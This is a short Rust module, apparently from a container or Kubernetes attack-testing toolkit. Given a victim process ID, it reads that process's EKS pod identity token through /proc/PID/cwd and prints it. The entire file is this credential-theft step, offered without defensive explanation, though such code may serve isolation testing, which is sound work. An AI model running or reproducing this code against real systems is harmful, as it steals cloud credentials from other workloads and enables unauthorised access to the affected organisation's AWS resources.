//! The token in the current directory of a process of the victim's (`/proc/PID/cwd`).

use std::fs::File;

use anyhow::{Context, Result};

use crate::common::read;

pub fn run(args: &[String]) -> Result<()> {
    let pid = args.first().context("no pid")?;
    let path = format!("/proc/{pid}/cwd/eks-pod-identity-token");
    read(File::open(path)?)
}
